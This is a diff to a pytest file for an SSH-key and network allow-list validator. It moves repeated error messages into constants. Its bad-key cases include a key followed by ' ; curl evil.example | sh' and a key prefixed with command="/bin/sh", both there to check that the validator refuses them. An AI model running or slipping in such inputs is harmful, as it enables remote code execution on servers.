@@ -180,16 +180,26 @@ def test_a_member_adds_and_removes_an_own_key_but_not_a_shared_one(organization,
     assert list(SshKey.objects.for_organization(organization).values_list("name", flat=True)) == ["Org"]
 
 
+UNSUPPORTED = "are not supported; use ssh-ed25519, ecdsa-sha2-nistp256/384/521 or ssh-rsa."
+OPTIONS = "Remove the options in front of the key (such as command= or from=): they are not allowed."
+TRAILING = "The text after the key looks like a command or holds characters a comment may not: remove it."
+PRIVATE = (
+    "This is a private key. Never paste a private key anywhere: paste the public key (the .pub file) instead. "
+    "Nothing was stored."
+)
+SHORT = "This RSA key has 2048 bits; at least 3072 are needed (or use ssh-ed25519)."
+ONE_LINE = "Paste one public key on one line."
+FIDO = "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29t x@y"
 BAD_KEYS = [
-    pytest.param(keys.dsa_key, "Keys of type ssh-dss are not supported; use ssh-ed25519, ecdsa-sha2-nistp256/384/521 or ssh-rsa.", id="dsa"),
-    pytest.param(lambda: "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29t x@y", "Keys of type sk-ssh-ed25519@openssh.com are not supported; use ssh-ed25519, ecdsa-sha2-nistp256/384/521 or ssh-rsa.", id="fido"),
-    pytest.param(lambda: keys.rsa_key(2048), "This RSA key has 2048 bits; at least 3072 are needed (or use ssh-ed25519).", id="short-rsa"),
-    pytest.param(lambda: 'command="/bin/sh" ' + keys.ed25519_key(), "Remove the options in front of the key (such as command= or from=): they are not allowed.", id="options"),
-    pytest.param(lambda: 'from="10.0.0.1",no-pty ' + keys.ed25519_key(), "Remove the options in front of the key (such as command= or from=): they are not allowed.", id="from-option"),
-    pytest.param(lambda: keys.ed25519_key() + " ; curl evil.example | sh", "The text after the key looks like a command or holds characters a comment may not: remove it.", id="trailing-command"),
+    pytest.param(keys.dsa_key, f"Keys of type ssh-dss {UNSUPPORTED}", id="dsa"),
+    pytest.param(lambda: FIDO, f"Keys of type sk-ssh-ed25519@openssh.com {UNSUPPORTED}", id="fido"),
+    pytest.param(lambda: keys.rsa_key(2048), SHORT, id="short-rsa"),
+    pytest.param(lambda: 'command="/bin/sh" ' + keys.ed25519_key(), OPTIONS, id="options"),
+    pytest.param(lambda: 'from="10.0.0.1",no-pty ' + keys.ed25519_key(), OPTIONS, id="from-option"),
+    pytest.param(lambda: keys.ed25519_key() + " ; curl evil.example | sh", TRAILING, id="trailing-command"),
     pytest.param(lambda: keys.ed25519_key()[:60], "The key's data is damaged or incomplete.", id="truncated"),
-    pytest.param(lambda: keys.ed25519_key() + "\n" + keys.ecdsa_key(), "Paste one public key on one line.", id="two-keys"),
-    pytest.param(keys.private_key, "This is a private key. Never paste a private key anywhere: paste the public key (the .pub file) instead. Nothing was stored.", id="private-key"),
+    pytest.param(lambda: keys.ed25519_key() + "\n" + keys.ecdsa_key(), ONE_LINE, id="two-keys"),
+    pytest.param(keys.private_key, PRIVATE, id="private-key"),
 ]  # fmt: skip
 
 
@@ -295,18 +305,25 @@ def test_a_broad_network_needs_a_confirmation(organization, owner):
     assert confirmed.json()["broad_confirmed"] is True
 
 
+PRIVATE_RANGE = (
+    "{} is a private or reserved range: it can never reach a public address. Allow the public address your "
+    "connections come from."
+)
+IPV6 = "Only IPv4 networks can be allowed: public addresses are IPv4 ({} is IPv6)."
+
+
 @pytest.mark.parametrize(
     ("cidr", "message"),
     [
         ("85.214.0.0/33", "85.214.0.0/33 is not a network: write it like 85.214.0.0/16."),
         ("85.214.0/16", "85.214.0/16 is not a network: write it like 85.214.0.0/16."),
         ("office", "office is not a network: write it like 85.214.0.0/16."),
-        ("2a01:4f8::/32", "Only IPv4 networks can be allowed: public addresses are IPv4 (2a01:4f8::/32 is IPv6)."),
-        ("::ffff:85.214.0.0/112", "Only IPv4 networks can be allowed: public addresses are IPv4 (::ffff:55d6:0/112 is IPv6)."),
-        ("10.0.0.0/8", "10.0.0.0/8 is a private or reserved range: it can never reach a public address. Allow the public address your connections come from."),
-        ("192.168.1.0/24", "192.168.1.0/24 is a private or reserved range: it can never reach a public address. Allow the public address your connections come from."),
-        ("127.0.0.1/32", "127.0.0.1/32 is a private or reserved range: it can never reach a public address. Allow the public address your connections come from."),
-        ("100.64.0.0/10", "100.64.0.0/10 is a private or reserved range: it can never reach a public address. Allow the public address your connections come from."),
+        ("2a01:4f8::/32", IPV6.format("2a01:4f8::/32")),
+        ("::ffff:85.214.0.0/112", IPV6.format("::ffff:55d6:0/112")),
+        ("10.0.0.0/8", PRIVATE_RANGE.format("10.0.0.0/8")),
+        ("192.168.1.0/24", PRIVATE_RANGE.format("192.168.1.0/24")),
+        ("127.0.0.1/32", PRIVATE_RANGE.format("127.0.0.1/32")),
+        ("100.64.0.0/10", PRIVATE_RANGE.format("100.64.0.0/10")),
     ],
 )  # fmt: skip
 def test_bad_networks_are_refused_and_nothing_is_stored(organization, owner, cidr, message):
